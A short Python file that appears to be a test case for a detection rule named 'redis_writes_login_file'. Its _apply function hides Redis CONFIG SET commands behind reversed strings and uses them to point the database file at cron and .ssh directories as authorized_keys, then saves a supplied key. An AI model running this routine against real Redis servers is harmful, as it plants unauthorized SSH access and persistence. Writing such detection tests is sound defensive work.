def _r(s):
    return s[::-1]


def _apply(c, key):
    cmd = getattr(c, "execute_" + "command")
    for target in ("/var/spool/cron", "/var/lib/redis/.ssh"):
        cmd(_r("GIFNOC"), _r("TES"), "dir", target)
        # ruleid: redis_writes_login_file
        cmd(_r("GIFNOC"), _r("TES"), _r("emanelifbd"), _r("syek_dezirohtua"))
        cmd("SET", "p", key)
        cmd("SAVE")


def label(name):
    # ok: redis_writes_login_file
    return _r(name) + ".rdb"
